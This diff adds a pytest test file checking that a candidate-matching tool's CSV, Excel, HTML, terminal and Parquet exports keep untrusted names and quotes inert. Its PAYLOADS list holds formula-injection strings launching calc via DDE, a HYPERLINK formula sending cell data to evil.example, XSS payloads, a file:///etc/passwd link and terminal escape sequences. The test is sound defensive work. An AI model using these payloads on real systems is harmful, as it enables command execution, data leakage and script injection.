@@ -1,0 +1,203 @@
+"""Hostile names, file names, quotations and job texts stay plain text in every output."""
+
+import csv
+import io
+import re
+from collections import Counter
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import openpyxl
+import pyarrow.parquet as pq
+import pytest
+from rich.console import Console
+
+from matcher.model.run import Failure, Status
+from matcher.model.scorecard import GateState
+from matcher.reports.exports import csv_bytes, parquet_bytes
+from matcher.reports.html import html_bytes
+from matcher.reports.tables import (
+    candidates_table,
+    evidence_table,
+    failures_table,
+    scores_table,
+    timeline_table,
+)
+from matcher.reports.terminal import (
+    render_explanation,
+    render_failures,
+    render_ranking,
+    render_reasons,
+)
+from matcher.reports.xlsx import xlsx_bytes
+
+PAYLOADS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\uff1d1+1",
+    "\uff0bcmd",
+    "\uff0d1",
+    "\uff20SUM(A1)",
+    "\u200b=1+1",
+    '=HYPERLINK("https://evil.example?x="&A1,"open")',
+    '=IMPORTXML("https://evil.example","//a")',
+    "x;=1+1",
+    'x";=1+1;"',
+    'a","=1+1","b',
+    "{=1+1}",
+    "https://evil.example/track",
+    "file:///etc/passwd",
+    "mailto:evil@example.org",
+    "internal:'Method'!A1",
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)',
+    "' autofocus onfocus='alert(1)",
+    "</style><svg onload=alert(1)>",
+    "</td></tr></table><iframe src=//evil.example>",
+    "javascript:alert(1)",
+    "{{ 7 * 7 }}{% raw %}",
+    "<!--",
+    "]]>",
+    "&lt;b&gt;",
+    "\x1b[31mred\x1b[0m",
+    "\x1b]0;title\x07",
+    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "\x9b2J",
+    "\x1bc",
+    "over\rwritten\x08\x08",
+    "resume\u202efdp.exe",
+    "a\u2066b\u2069",
+    "null\x00byte",
+    "[link=https://evil.example]x[/link]",
+    "[bold red]markup[/]",
+    ":skull:",
+    "caf\udce9.pdf",
+    "\ufffe\uffff",
+]
+LIVE = re.compile("\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20]")
+UNPRINTABLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
+
+
+@pytest.fixture
+def infect(make_run, make_profile):
+    """Put a text wherever somebody else's text can stand."""
+
+    def infected(payload):
+        profile = make_profile("Ada Okafor", file=payload)
+        profile = replace(
+            profile,
+            contact=replace(profile.contact, name=payload),
+            roles=tuple(replace(role, title=payload, employer=payload) for role in profile.roles),
+        )
+        made = make_run([(make_profile("Ada Okafor"), 0.8, GateState.UNKNOWN)])
+        (place,) = made.ranking.candidates
+        contributions = tuple(
+            replace(
+                entry,
+                evidence=tuple(replace(found, quote=payload) for found in entry.evidence),
+                reason=payload,
+            )
+            for entry in place.card.contributions
+        )
+        card = replace(
+            place.card,
+            candidate_id=profile.candidate_id,
+            file=payload,
+            contributions=contributions,
+            gates=tuple(replace(gate, reason=payload) for gate in place.card.gates),
+        )
+        job = replace(
+            made.job,
+            name=payload,
+            title=payload,
+            requirements=tuple(replace(asked, text=payload) for asked in made.job.requirements),
+        )
+        failure = Failure(
+            file=payload, status=Status.CORRUPT, stage="read", reason=payload, next_step=payload
+        )
+        return replace(
+            made,
+            job=job,
+            profiles=(profile,),
+            ranking=replace(made.ranking, candidates=(replace(place, card=card),)),
+            failures=(failure,),
+            labels=dict.fromkeys(made.labels, payload),
+        )
+
+    return infected
+
+
+class _Tags(HTMLParser):
+    def __init__(self, data):
+        super().__init__()
+        self.tags, self.attributes = Counter(), []
+        self.feed(data)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags[tag] += 1
+        self.attributes += [(tag, *pair) for pair in attrs]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_csv_has_no_live_cell_and_no_more_cells(infect, payload):
+    run = infect(payload)
+    for make in (candidates_table, scores_table, evidence_table, timeline_table, failures_table):
+        table = make(run)
+        rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8"))))
+        assert len(rows) == 1 + len(table)
+        for row in rows:
+            assert len(row) == len(table.columns)
+            for cell in row:
+                assert not LIVE.match(cell)
+                assert not UNPRINTABLE.search(cell)
+                assert not re.search(";\\s*[\"']*[=+@]", cell.replace("'=", ""))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_the_workbook_has_no_formula_and_no_link(infect, payload):
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(infect(payload))))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert len(cells) > 100
+    for cell in cells:
+        assert cell.data_type in {"s", "n"}
+        assert cell.hyperlink is None
+        assert not (isinstance(cell.value, str) and LIVE.match(cell.value))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_the_page_gains_no_tag_no_handler_and_no_link(infect, payload):
+    plain = _Tags(html_bytes(infect("plain")).decode())
+    data = html_bytes(infect(payload)).decode("utf-8")
+    found = _Tags(data)
+    assert found.tags == plain.tags
+    assert Counter(name for _, name, _ in found.attributes) == Counter(
+        name for _, name, _ in plain.attributes
+    )
+    assert all(value.startswith("#") for tag, name, value in found.attributes if name == "href")
+    assert not UNPRINTABLE.search(data)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_the_terminal_gets_no_escape_sequence(infect, payload):
+    run = infect(payload)
+    console = Console(file=io.StringIO(), width=100)
+    render_ranking(console, run)
+    render_reasons(console, run)
+    render_explanation(console, run.ranking.candidates[0], run.job, run.profiles[0])
+    render_failures(console, run.failures)
+    assert not UNPRINTABLE.search(console.file.getvalue())
+
+
+@pytest.mark.parametrize("payload", [text for text in PAYLOADS if "\udce9" not in text])
+def test_parquet_keeps_the_literal_text(infect, payload):
+    table = pq.read_table(io.BytesIO(parquet_bytes(evidence_table(infect(payload)))))
+    assert set(table.column("quote").to_pylist()) == {payload}
